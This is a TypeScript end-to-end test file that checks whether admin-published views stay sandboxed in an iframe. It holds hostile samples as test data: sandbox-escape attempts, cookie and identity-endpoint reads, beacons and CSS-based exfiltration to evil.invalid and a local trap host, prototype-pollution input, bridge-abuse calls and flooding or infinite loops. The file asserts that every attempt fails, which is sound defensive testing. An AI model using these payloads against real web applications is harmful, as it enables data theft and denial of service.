import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import { describe, expect, it } from 'vitest'
import { eventually, PROJECT, setStage } from './stage.ts'
import { el } from './words.ts'

interface Hostile {
  readonly html?: string
  readonly controller: string
  readonly calls?: readonly string[]
}

/**
 * What an author tries, each by itself: an expression that is `true` once it has got what it wants. What
 * throws, and what is answered with nothing, has got nothing.
 */
const TAKING = `[
  () => document.cookie !== '',
  () => parent.document.body !== null,
  () => top.document.body !== null,
  () => parent.localStorage.length >= 0,
  () => localStorage.length >= 0,
  () => sessionStorage.length >= 0,
  () => indexedDB.open('x') !== null && false,
  () => parent.fetch('/Account/Identity') !== null,
  () => frameElement.ownerDocument !== null,
  () => parent.frames[0].document === parent.document,
  () => { top.location = 'about:blank'; return false },
  () => { parent.location.href = 'about:blank'; return false },
  () => open('about:blank') !== undefined,
  () => alert(1) !== undefined,
  () => confirm('x') !== undefined,
  () => prompt('x') !== undefined,
  () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + HOST }] }) !== null,
  () => new WebSocket('ws://' + HOST) !== null,
  () => new EventSource('http://' + HOST) !== null,
  () => new Worker('data:text/javascript,1') !== null,
  () => new SharedWorker('data:text/javascript,1') !== null,
  () => navigator.sendBeacon('http://' + HOST, 'x') && false,
  () => document.createElement('iframe') !== null,
  () => document.createElement('LINK') !== null,
  () => document.createElement({ n: 0, toString() { return this.n++ ? 'link' : 'p' } }).localName === 'link',
  () => document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link') !== null,
  () => document.createElementNS('http://www.w3.org/2000/svg', 'script') !== null,
  () => { document.body.innerHTML += '<link rel=preconnect href=http://' + HOST + '>'; return true },
  () => { document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=http://' + HOST + '">'); return true },
  () => new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;link/>">]><a>&e;</a>', 'application/xml') !== null,
  () => document.createRange().createContextualFragment('<iframe srcdoc=x></iframe>') !== null,
  () => { const t = document.createElement('template'); t.innerHTML = '<object data=http://' + HOST + '></object>'; return true },
  () => document.body.append(document.implementation.createHTMLDocument('').querySelector('head')) || Boolean(document.body.querySelector('link')),
  () => { RegExp.prototype.exec = () => null; String.prototype.toLowerCase = () => 'p'; Set.prototype.has = () => false; return document.createElement('iframe') !== null },
  () => { Object.defineProperty(Node, Symbol.hasInstance, { value: () => false }); class L extends HTMLLinkElement {} ; customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = 'http://' + HOST; document.body.append(l); return true },
  () => { const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); document.body.before(d.documentElement); return true },
  () => document.querySelector('link, script, meta, base') !== null,
  () => document.execCommand('insertHTML', false, '<iframe>') === true,
  () => { document.write('<iframe>'); return document.querySelector('iframe') !== null },
  () => new Function('return typeof parent.document')() === 'object',
]`

/** What loads by itself when it is drawn, and what styles ask for. */
const LOADING = (host: string): string => `
<img src="http://${host}/img"><img srcset="http://${host}/set 1x">
<video src="http://${host}/video" poster="http://${host}/poster" autoplay></video>
<audio src="http://${host}/audio" autoplay></audio>
<svg><image href="http://${host}/svg"/><use href="http://${host}/use#a"/><feImage href="http://${host}/fe"/></svg>
<input type="image" src="http://${host}/input"><table background="http://${host}/table"></table>
<div style="background:url(http://${host}/css);list-style-image:url(http://${host}/list)">x</div>
<form action="http://${host}/form"><button id="send">send</button></form>
<a id="away" href="http://${host}/a" ping="http://${host}/ping">away</a>
<pre id="out">{{ out }}</pre>`

describe('a view that means harm', () => {
  const stage = setStage()

  /** Publishes a view as an administrator, and opens it as a mentee. */
  async function show(
    name: string,
    { html = '<p id="out">{{ out }}</p>', controller, calls = [] }: Hostile,
  ) {
    const admin = await stage.visit({ as: stage.personWith('Admin', PROJECT.name) })
    const { Id, Version } = await admin.ask<{ Id: number; Version: number }>('/api/view/Save', {
      ...{ ProjectId: PROJECT.id, Class: 'view2', Name: name, Access: ['Mentee'], Html: html },
      ...{ Controller: controller, Calls: calls },
      Styles: `@import url(http://evil.invalid/import); @font-face { font-family: x; src: url(http://evil.invalid/font) }
        #out { font-family: x; background: url(http://evil.invalid/bg?#) }
        input[value^="a"] { background: url(http://evil.invalid/a) }`,
    })
    await admin.ask('/api/view/Publish', { ProjectId: PROJECT.id, Id, Version })
    const visitor = await stage.visit({ as: stage.personWith('Mentee', PROJECT.name) })
    const requests: string[] = []
    visitor.page.on('requestfinished', (request) => requests.push(request.url()))
    await visitor.page.goto(`/${PROJECT.url}/views/${name}`)
    const frame = visitor.page.frameLocator('iframe')
    return { ...visitor, requests, frame, out: frame.locator('#out') }
  }

  /** The page around a frame still answers whoever uses it, and nothing of the frame is a complaint of it. */
  async function pageWorks({ page, complaints }: Awaited<ReturnType<typeof show>>): Promise<void> {
    expect(await page.evaluate('({}).polluted')).toBeUndefined()
    await page.goto(`/${PROJECT.url}/userinfo`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    complaints.splice(0)
  }

  it('reads nothing of the page, and nothing that it loads leaves', async () => {
    const met: string[] = []
    const trap = createServer((socket) => {
      met.push('connection')
      socket.destroy()
    }).listen(0, '127.0.0.1')
    await once(trap, 'listening')
    const host = `127.0.0.1:${(trap.address() as AddressInfo).port}`
    try {
      const opened = await show('hostile-takes', {
        html: LOADING(host),
        controller: `async () => {
          const HOST = '${host}'
          const got = []
          for (const [at, take] of ${TAKING}.entries()) {
            try { if (take() === true) got.push(at) } catch {}
          }
          const late = await Promise.allSettled([
            () => fetch('http://' + HOST),
            () => fetch('/Account/Identity', { credentials: 'include' }),
            () => import('http://' + HOST + '/module.js'),
            () => import('data:text/javascript,export default 1'),
            () => navigator.serviceWorker.register('/sw.js'),
            () => navigator.clipboard.readText(),
            () => new Promise((yes, no) => {
              const x = new XMLHttpRequest()
              x.onload = yes
              x.onerror = no
              x.open('GET', '/Account/Identity')
              x.send()
            }),
          ].map(async (work) => work()))
          late.forEach(({ status }, at) => { if (status === 'fulfilled') got.push('late ' + at) })
          return { out: 'got ' + JSON.stringify(got) }
        }`,
      })
      await opened.out.waitFor({ timeout: 60_000 })
      await eventually(() => opened.out.textContent()).toBe('got []')
      await opened.frame.locator('#send').click()
      await opened.rest()
      const { origin } = new URL(opened.page.url())
      expect(
        opened.requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:')),
      ).toEqual([])
      expect(met).toEqual([])
      await pageWorks(opened)
    } finally {
      trap.close()
    }
  })

  it('asks by the bridge what it lists, and nothing else', async () => {
    const opened = await show('hostile-asks', {
      calls: ['actions.listMenteeActions'],
      controller: `async ({ view, api }) => {
        const tell = async (work) => {
          try { await work(); return 'done' } catch ({ code }) { return code ?? 'error' }
        }
        const { Id, ProjectId } = view.who
        const own = { ProjectId, MenteeId: Id }
        const list = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}')
        return { out: JSON.stringify([
          await tell(() => api.call('actions.listMenteeActions', own)),
          await tell(() => api.call('actions.listMenteeActions', { ProjectId, MenteeId: Id + 1 })),
          await tell(() => api.call('actions.listMenteeActions', { ...own, ProjectId: ProjectId + 1 })),
          await tell(() => api.call('actions.listMenteeActions', list)),
          await tell(() => api.call('identity.changePassword', { Password: 'x' })),
          await tell(() => api.call('__proto__', {})),
          await tell(() => api.call({ toString: () => 'actions.listMenteeActions' }, own)),
          await tell(() => api.navigate('userinfo')),
          await tell(() => api.navigate('//evil.invalid')),
          await tell(() => api.confirm('x')),
          await tell(() => api.print()),
          await tell(() => api.service('../identity')),
          await tell(() => api.service('asked')),
        ]) }
      }`,
    })
    // A look into a page passes for a gesture of whoever uses it: none before everything is asked.
    const isAsked = () => opened.requests.some((url) => url.includes('/api/Services/asked'))
    await eventually(isAsked).toBe(true)
    await eventually(
      async () => JSON.parse((await opened.out.textContent()) ?? '[]') as unknown,
    ).toEqual([
      ...['done', 'not_found', 'forbidden', 'invalid_input', 'unknown_call', 'unknown_call'],
      ...['invalid_input', 'no_gesture', 'invalid_input', 'no_gesture', 'no_gesture'],
      ...['invalid_input', 'not_found'],
    ])
    await pageWorks(opened)
  })

  it.each([
    ['flood', 'hostile-floods', 'for (let n = 0; n < 5000; n += 1) api.toast("x")'],
    ['flood', 'hostile-forges', 'for (let n = 0; n < 5000; n += 1) parent.postMessage({ n }, "*")'],
    ['flood', 'hostile-logs', 'for (let n = 0; n < 5000; n += 1) console.log(n)'],
    ['error', 'hostile-size', 'api.call("x", { text: "x".repeat(600000) })'],
    ['left', 'hostile-leaves', 'location.href = "/signin"'],
    ['left', 'hostile-reloads', 'location.reload()'],
    ['silent', 'hostile-spins', 'setTimeout(() => { for (;;) {} }, 500)'],
  ] as const)(
    'is taken away: %s, %s',
    async (why, name, code) => {
      const opened = await show(name, {
        controller: `({ api }) => { ${code}; return { out: '' } }`,
      })
      const words = el(`views.stopped.${why}`, { name })
      await opened.page.getByRole('alert').filter({ hasText: words }).waitFor({ timeout: 60_000 })
      await eventually(() => opened.page.locator('iframe').count()).toBe(0)
      await pageWorks(opened)
    },
    120_000,
  )

  it('that only fails says in its frame where, and the page works', async () => {
    const opened = await show('hostile-fails', {
      controller: '({ view }) => {\n  const name = view.missing.name\n  return { name }\n}',
    })
    await opened.frame.getByText(/^2:\d+ .*undefined/).waitFor()
    await pageWorks(opened)
  })
})
